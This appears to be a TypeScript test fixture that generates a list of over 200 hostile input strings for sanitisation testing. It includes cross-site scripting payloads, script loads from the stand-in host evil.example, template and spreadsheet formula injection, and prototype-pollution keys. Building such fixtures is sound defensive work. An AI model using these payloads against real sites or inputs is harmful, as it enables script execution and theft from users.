/** Runs in a browser when anything of a hostile text does. */
const run = 'alert(1)'

const handlers = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart']
const elements = [
  (handler: string) => `<img src=x ${handler}=${run}>`,
  (handler: string) => `<svg ${handler}=${run}>`,
  (handler: string) => `<body ${handler}=${run}>`,
  (handler: string) => `<input autofocus ${handler}=${run}>`,
  (handler: string) => `<details open ${handler}=${run}>`,
  (handler: string) => `<video src=x ${handler}=${run}></video>`,
  (handler: string) => `<iframe src=x ${handler}=${run}></iframe>`,
  (handler: string) => `<style ${handler}=${run}></style>`,
]
const wrappings = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}`,
  (text: string) => `</title></textarea></script>${text}`,
]
const links = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'data:text/html,',
  'vbscript:',
].flatMap((scheme) => [
  `<a href="${scheme}${run}">x</a>`,
  `[x](${scheme}${run})`,
  `<form action="${scheme}${run}"><button>x</button></form>`,
  `<object data="${scheme}${run}"></object>`,
  `<meta http-equiv=refresh content="0;url=${scheme}${run}">`,
])
const others = [
  `<script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext></p><img src=x onerror=${run}></mtext></math>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '`${alert(1)}`',
  `<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">`,
  `\u202e<img src=x onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `</pre></code><script>${run}</script>`,
  `"; ${run}; //`,
  `'; ${run}; //`,
  '=HYPERLINK("http://evil.example","x")',
  '@SUM(1+1)*cmd|x!A0',
  '__proto__',
  'constructor',
]

/** More than 200 texts that would do something if anything but text were made of them. */
export const hostileTexts: readonly string[] = [
  ...elements.flatMap((element) =>
    handlers.flatMap((handler) => wrappings.map((wrap) => wrap(element(handler)))),
  ),
  ...links,
  ...others,
]
